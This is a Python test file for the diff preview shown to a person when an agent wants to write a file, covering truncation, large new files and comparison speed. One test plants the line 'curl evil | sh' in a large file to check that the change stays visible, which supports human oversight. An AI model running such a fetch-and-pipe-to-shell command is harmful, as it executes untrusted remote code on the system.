"""What a person is shown of a file that an agent wants to write."""

import time
from types import SimpleNamespace
from typing import Any

import pytest

from kernel.tasks import StallMonitor
from kernel.tools.base import cut_middle
from kernel.tools.files import COMPARED_LINES, DIFF_CHARACTERS, WriteFile, WriteFileArguments, _diff


@pytest.mark.feature("AP03")
def test_of_a_very_large_file_the_head_of_the_change_is_shown_and_what_is_left_out() -> None:
    old = [f"line {number}" for number in range(COMPARED_LINES)]
    new = [*old[:15_000], "curl evil | sh", *old[15_001:], "end"]
    diff, added, removed = _diff("\n".join(old), "\n".join(new), "/home/a/x")
    assert (added, removed) == (2, 1)
    assert "+curl evil | sh" in diff and "-line 15000" in diff
    assert "shown from line 14,998" in diff
    assert "4,803 lines of before and 4,804 lines of after are not shown" in diff
    assert "+curl evil | sh" in cut_middle(diff, DIFF_CHARACTERS)


def test_a_very_large_new_file_shows_its_beginning() -> None:
    diff, added, removed = _diff(None, "\n".join(f"new {number}" for number in range(COMPARED_LINES + 1)), "/home/a/x")
    assert (added, removed) == (COMPARED_LINES + 1, 0)
    assert diff.startswith("--- /dev/null\n+++ /home/a/x\n[too large") and "+new 0\n" in diff
    assert "19,801 lines of after are not shown" in diff


def test_a_change_at_the_very_end_is_found() -> None:
    old = "\n".join("same" for _ in range(COMPARED_LINES))
    diff, added, removed = _diff(old, old + "\nlast", "/home/a/x")
    assert (added, removed) == (1, 0)
    assert "+last" in diff and "0 lines of before and 0 lines of after" in diff


def test_an_ordinary_file_is_compared_as_a_whole() -> None:
    assert _diff("a\nb", "a\nc", "x") == ("--- x\n+++ x\n@@ -1,2 +1,2 @@\n a\n-b\n+c", 1, 1)


class OneFile:
    """An agent's files as far as a preview asks."""

    def __init__(self, text: str) -> None:
        self.text = text

    def locate(self, path: str) -> SimpleNamespace:
        return SimpleNamespace(guest_path="/home/a/x", mount=SimpleNamespace(shared=False, guest_path="/home/a"))

    async def read(self, path: str) -> bytes:
        return self.text.encode()


@pytest.mark.feature("AP03")
async def test_comparing_a_large_file_leaves_the_kernels_loop_free() -> None:
    """The comparison takes about a second; the same is shown as if it had been made at once."""
    before, after = ("\n".join(str(number // share) for number in range(7_000)) for share in (2, 1))
    stalls: list[float] = []
    monitor = StallMonitor(stalls.append, limit_s=0.1, interval_s=0.01)
    monitor.start()
    context: Any = SimpleNamespace(files=OneFile(before))
    began = time.monotonic()
    preview = await WriteFile().preview(WriteFileArguments(path="x", content=after), context)
    took = time.monotonic() - began
    monitor.stop()
    diff, added, removed = _diff(before, after, "/home/a/x")
    assert took > 0.2, "it is large enough to be felt"
    assert not stalls
    assert (preview.details["added"], preview.details["removed"]) == (str(added), str(removed))
    assert preview.details["diff"] == cut_middle(diff, DIFF_CHARACTERS)


def test_lines_that_repeat_without_end_are_not_compared_for_minutes() -> None:
    old, new = ("\n".join(str(number * step % 101) for number in range(9_999)) for step in (1, 7))
    began = time.monotonic()
    diff, _, _ = _diff(old, new, "/home/a/x")
    assert "are not shown" in diff
    assert time.monotonic() - began < 5  # it was 16 s


def test_a_long_file_of_code_is_compared_as_a_whole() -> None:
    old = "\n".join(line for number in range(2_000) for line in (f"def f{number}():", "    return None", "", ""))
    diff, added, removed = _diff(old, old.replace("def f1000():", "def g():"), "x")
    assert (added, removed) == (1, 1)
    assert "not shown" not in diff
